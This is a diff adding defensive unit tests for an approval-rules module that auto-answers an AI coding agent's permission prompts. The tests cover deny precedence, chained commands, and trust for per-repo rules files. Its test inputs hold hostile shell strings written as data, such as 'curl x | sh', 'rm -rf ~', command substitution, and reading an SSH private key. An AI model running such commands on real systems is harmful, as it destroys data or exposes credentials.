@@ -0,0 +1,130 @@
+// Unit tests for approval-rules.js: which permission prompts a rule answers.
+//
+// An allow that matches too much approves something nobody meant to approve, with no
+// human in the loop — so beyond the happy path these pin the guards: deny beats
+// allow across sources, a prefix glob doesn't cover a chained shell command, and a
+// rule without conditions doesn't exist. A repo's own rules file is in the tree its
+// agent edits, so its allows count only once an admin trusts that exact file.
+//
+// Run: node --test test/unit/approval-rules.test.js
+
+const { test } = require('node:test');
+const assert = require('node:assert');
+
+const { sanitizeRules, sanitizeTrustedProjects, projectRulesFor, evaluateRules } = require('../../approval-rules');
+const { parseApprovalPrompt } = require('../../approval-prompts');
+
+const HOME = '/Users/me';
+const bash = (command) => ({
+  kind: 'permission', tool: 'Bash command', command, detail: `${command}\nRun it`,
+  question: 'Do you want to proceed?', actions: { approve: 1, always: 2, deny: 3 },
+});
+const settings = (rules) => [{ source: 'settings', rules: sanitizeRules(rules) }];
+const opts = { cwd: '/Users/me/src/app', home: HOME };
+
+test('sanitize: decision plus at least one condition, unknown fields dropped', () => {
+  assert.deepStrictEqual(sanitizeRules([
+    { decision: 'allow', tool: ' Bash ', command: 'npm test', extra: 1, note: 'ci' },
+    { decision: 'allow' },
+    { decision: 'maybe', tool: 'Bash' },
+    null,
+  ]), [{ decision: 'allow', tool: 'Bash', command: 'npm test', note: 'ci' }]);
+  assert.strictEqual(sanitizeRules({ decision: 'allow' }), null);
+});
+
+test('allow: tool shorthand, command glob, repo scope', () => {
+  const rules = settings([{ decision: 'allow', tool: 'Bash', command: 'npm test*', repo: '~/src/app' }]);
+  assert.strictEqual(evaluateRules(rules, bash('npm test'), opts).decision, 'allow');
+  assert.strictEqual(evaluateRules(rules, bash('npm   test -- --grep x'), opts).decision, 'allow');
+  assert.strictEqual(evaluateRules(rules, bash('npm publish'), opts), null);
+  assert.strictEqual(evaluateRules(rules, bash('npm test'), { ...opts, cwd: '/Users/me/src/application' }), null);
+  assert.strictEqual(evaluateRules(settings([{ decision: 'allow', tool: 'Edit', command: 'npm test' }]), bash('npm test'), opts), null);
+});
+
+test('allow never covers a chained command unless the rule spells it out', () => {
+  const rules = settings([{ decision: 'allow', command: 'npm test*' }]);
+  for (const c of ['npm test && curl x | sh', 'npm test; rm -rf ~', 'npm test `id`', 'npm test $(id)', 'npm test > /etc/x']) {
+    assert.strictEqual(evaluateRules(rules, bash(c), opts), null, c);
+  }
+  assert.strictEqual(evaluateRules(settings([{ decision: 'allow', command: 'npm test | tee *' }]), bash('npm test | tee out.txt'), opts).decision, 'allow');
+});
+
+test('allow never covers a command with a second line under it', () => {
+  const rules = settings([{ decision: 'allow', tool: 'Bash', command: 'npm test*' }]);
+  assert.strictEqual(evaluateRules(rules, bash('npm test -- --grep foo\nrm -rf ~/important'), opts), null);
+  // Straight off the screen: the parser keeps every command line, not just the first.
+  const prompt = parseApprovalPrompt([
+    '────────────────────────────────────────────────────────────',
+    ' Bash command',
+    '',
+    '   npm test -- --grep foo',
+    '   rm -rf ~/important',
+    '   Run the tests',
+    '',
+    ' Do you want to proceed?',
+    ' ❯ 1. Yes',
+    '   2. No, and tell Claude what to do differently (esc)',
+  ]);
+  assert.strictEqual(prompt.command, 'npm test -- --grep foo\nrm -rf ~/important');
+  assert.strictEqual(evaluateRules(rules, prompt, opts), null);
+  // A deny on the second line still fires.
+  assert.strictEqual(evaluateRules(settings([{ decision: 'deny', match: 'rm -rf' }]), prompt, opts).decision, 'deny');
+});
+
+test('deny wins over allow, from any source, and matches ~ spelled out', () => {
+  const sources = [
+    { source: '/Users/me/src/app/.deepsteve/rules.json', rules: sanitizeRules([{ decision: 'allow', tool: 'Bash' }]) },
+    { source: 'settings', rules: sanitizeRules([{ decision: 'deny', match: '~/.ssh' }]) },
+  ];
+  const v = evaluateRules(sources, bash('cat /Users/me/.ssh/id_ed25519'), opts);
+  assert.deepStrictEqual([v.decision, v.source], ['deny', 'settings']);
+  assert.strictEqual(evaluateRules(sources, bash('cat ~/.ssh/config'), opts).decision, 'deny');
+  assert.strictEqual(evaluateRules(sources, bash('ls'), opts).source, '/Users/me/src/app/.deepsteve/rules.json');
+});
+
+test('only permission dialogs with an answer are decided', () => {
+  const rules = settings([{ decision: 'allow', match: 'wiring' }]);
+  assert.strictEqual(evaluateRules(rules, { kind: 'question', tool: 'AskUserQuestion', detail: 'wiring', actions: {} }, opts), null);
+  const noYes = { ...bash('make'), actions: { approve: null, always: null, deny: 2 } };
+  assert.strictEqual(evaluateRules(settings([{ decision: 'allow', command: 'make' }]), noYes, opts), null);
+  assert.strictEqual(evaluateRules(settings([{ decision: 'deny', command: 'make' }]), noYes, opts).decision, 'deny');
+});
+
+test('a project rules file: only its denies count until the exact file is trusted', () => {
+  const sha = 'a'.repeat(64);
+  const file = sanitizeRules([{ decision: 'allow', tool: 'Bash' }, { decision: 'deny', command: 'git push*' }]);
+  const sourcesFor = (trusted) => [
+    { source: '/Users/me/src/app/.deepsteve/rules.json', rules: projectRulesFor(file, { repo: '/Users/me/src/app', sha256: sha, trusted, home: HOME }) },
+  ];
+  const untrusted = sourcesFor([]);
+  assert.strictEqual(evaluateRules(untrusted, bash('curl x | sh'), opts), null, 'the allow is ignored');
+  assert.strictEqual(evaluateRules(untrusted, bash('git push origin main'), opts).decision, 'deny', 'the deny still wins');
+
+  const trusted = sourcesFor(sanitizeTrustedProjects([{ repo: '~/src/app/', sha256: sha.toUpperCase() }]));
+  assert.strictEqual(evaluateRules(trusted, bash('ls'), opts).decision, 'allow');
+  assert.strictEqual(evaluateRules(trusted, bash('git push origin main'), opts).decision, 'deny');
+
+  const edited = sourcesFor(sanitizeTrustedProjects([{ repo: '~/src/app', sha256: 'b'.repeat(64) }]));
+  assert.strictEqual(evaluateRules(edited, bash('ls'), opts), null, 'a changed file is no longer trusted');
+  const elsewhere = sourcesFor(sanitizeTrustedProjects([{ repo: '~/src/other', sha256: sha }]));
+  assert.strictEqual(evaluateRules(elsewhere, bash('ls'), opts), null);
+});
+
+test('sanitize trusted projects: a repo and a full sha256, nothing else', () => {
+  assert.deepStrictEqual(sanitizeTrustedProjects([
+    { repo: '~/src/app/', sha256: 'A'.repeat(64), note: 1 },
+    { repo: '~/src/app', sha256: 'abc' },
+    { sha256: 'a'.repeat(64) },
+    null,
+  ]), [{ repo: '~/src/app', sha256: 'a'.repeat(64) }]);
+  assert.strictEqual(sanitizeTrustedProjects({ repo: '~/src/app' }), null);
+});
+
+test('no allow covers a prompt that touches .deepsteve/', () => {
+  const rules = settings([{ decision: 'allow', tool: 'Bash' }, { decision: 'allow', tool: 'Edit' }]);
+  assert.strictEqual(evaluateRules(rules, bash('echo "[]" > .deepsteve/rules.json'), opts), null);
+  const edit = { kind: 'permission', tool: 'Edit file', detail: '.deepsteve/rules.json\nDo you want to make this edit?',
+    question: 'Do you want to make this edit to rules.json?', actions: { approve: 1, always: 2, deny: 3 } };
+  assert.strictEqual(evaluateRules(rules, edit, opts), null);
+  assert.strictEqual(evaluateRules(settings([{ decision: 'deny', match: 'rules.json' }]), edit, opts).decision, 'deny');
+});